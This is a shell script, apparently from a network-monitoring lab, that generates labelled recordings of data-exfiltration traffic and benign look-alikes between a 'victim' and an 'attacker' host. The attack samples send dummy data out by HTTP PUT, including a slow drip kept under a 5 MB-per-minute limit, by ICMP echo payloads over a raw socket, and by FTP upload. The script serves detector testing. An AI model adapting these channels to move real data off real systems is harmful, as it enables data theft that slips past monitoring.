#!/bin/sh
# Recordings of leaks and of what looks like them: see script/lab. The victim leaks to the attacker's external address.
# Segments are left as large as the interfaces take them, which keeps the recordings small.

# Takes what is sent to port $1, and answers nothing.
sink() {
    attacker timeout 20 python3 -c '
import socket, sys
s = socket.create_server(("0.0.0.0", int(sys.argv[1])))
c, _ = s.accept()
while c.recv(1 << 16): pass
' "$1" &
    sleep 1
}

put() {
    sink 8443
    victim python3 -c '
import socket, sys, time
s = socket.create_connection((sys.argv[1], 8443))
s.sendall(b"PUT /a HTTP/1.1\r\nHost: a\r\n\r\n")
for _ in range(int(sys.argv[2])):
    s.sendall(bytes(50_000)); time.sleep(float(sys.argv[3]))
' "$OUTSIDE" "$1" "$2"
    wait
}

# data_exfiltration-put: attack data_exfiltration 6 MB by HTTP PUT to an external host
record_data_exfiltration_put() { put 120 0.02; }

# data_exfiltration-drip: attack data_exfiltration 3.5 MB, never 5 MB a minute
record_data_exfiltration_drip() { put 70 0.2; }

echoes() {
    victim python3 -c '
import os, socket, struct, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
def checksum(b):
    total = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
for n in range(60):
    data = os.urandom(64)
    head = struct.pack("!BBHHH", 8, 0, 0, 7, n)
    head = struct.pack("!BBHHH", 8, 0, checksum(head + data), 7, n)
    s.sendto(head + data, (sys.argv[1], 0)); time.sleep(0.05)
' "$OUTSIDE"
}

# data_exfiltration-icmp: attack data_exfiltration data in the echo requests of a raw socket
record_data_exfiltration_icmp() { echoes; }

ftp_server() {
    attacker timeout 15 python3 -c '
import socket
s = socket.create_server(("0.0.0.0", 21)); d = socket.create_server(("0.0.0.0", 2121))
c, _ = s.accept(); c.sendall(b"220 ready\r\n")
for line in c.makefile("rb"):
    verb = line[:4].strip().upper()
    if verb == b"PASV": c.sendall(b"227 Entering Passive Mode (%s,8,73)\r\n" % c.getsockname()[0].replace(".", ",").encode())
    elif verb == b"STOR":
        c.sendall(b"150 go on\r\n"); x, _ = d.accept()
        while x.recv(4096): pass
        c.sendall(b"226 stored\r\n")
    elif verb == b"LIST":
        c.sendall(b"150 here\r\n"); x, _ = d.accept(); x.close(); c.sendall(b"226 listed\r\n")
    elif verb == b"QUIT": c.sendall(b"221 bye\r\n"); break
    else: c.sendall(b"230 fine\r\n" if verb in (b"PASS", b"USER") else b"200 fine\r\n")
' &
    sleep 1
}

ftp_store() {
    ftp_server
    victim python3 -c '
import ftplib, io, sys
f = ftplib.FTP(sys.argv[1]); f.login("a", "b")
if sys.argv[2] == "list": f.retrlines("LIST")
f.storbinary("STOR report.html", io.BytesIO(b"x" * 3000)); f.quit()
' "$OUTSIDE" "$1"
    wait
}

# data_exfiltration-ftp: attack data_exfiltration a program stores a file by FTP
record_data_exfiltration_ftp() { ftp_store only; }

# data_exfiltration-ftp-session: benign data_exfiltration somebody lists a directory and stores a file by FTP
record_data_exfiltration_ftp_session() { ftp_store list; }

# Both sides hand thirty datagrams at once to the interface, which keeps the recording small.
call() {
    attacker timeout 14 python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((sys.argv[1], 40000))
s.setsockopt(17, 103, 700)
n = 0
while True:
    b, who = s.recvfrom(2000); n += 1
    if n % 30 == 0: s.sendto(bytes(21_000), who)
' "$OUTSIDE" &
    sleep 1
    victim python3 -c '
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(17, 103, 1100)
for n in range(200):
    s.sendto(b"\x80" + bytes(32_999), (sys.argv[1], 40000)); time.sleep(0.05)
' "$OUTSIDE"
    wait
}

# data_exfiltration-call: benign data_exfiltration a video call, 6.6 MB out and 4.2 MB in
record_data_exfiltration_call() { call; }

# data_exfiltration-ping: benign data_exfiltration pings of all sizes
record_data_exfiltration_ping() {
    victim ping -q -c 20 -i 0.1 "$OUTSIDE"
    victim ping -q -c 20 -i 0.1 -s 1400 "$OUTSIDE"
}
